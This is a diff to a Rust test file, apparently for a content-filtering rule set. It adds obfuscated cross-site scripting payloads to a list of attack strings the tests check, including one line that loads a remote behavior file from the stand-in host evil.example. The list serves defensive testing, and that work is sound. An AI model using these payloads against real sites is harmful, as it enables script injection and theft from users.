@@ -5,6 +5,18 @@ use crate::content::rule_sets::tests::check;
 
 /// One row for each shape of an attack.
 const ATTACKS: &[&str] = &[
+    // Behind quotes of the other kind, and encoded.
+    "it's \";alert(1)//",
+    "al\\u0065rt(1)",
+    "alert&lpar;1&rpar;",
+    "j&Tab;a&Tab;vascript:x",
+    "%c0%bcscript>alert(1)",
+    "<a/href=javascript&colon;co\\u006efirm&#40;1&#41;>",
+    "(alert)(1)",
+    "Reflect.apply(alert,null,[1])",
+    "<dEtAIlS%0aontoggle+=%0d(prompt)``>",
+    "<?import namespace=\"x\" implementation=\"http://evil.example/x.htc\">",
+    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(1))'>",
     // Script elements.
     "<script>alert(1)</script>",
     "\"><ScRiPt >prompt`1`</sCrIpT>",
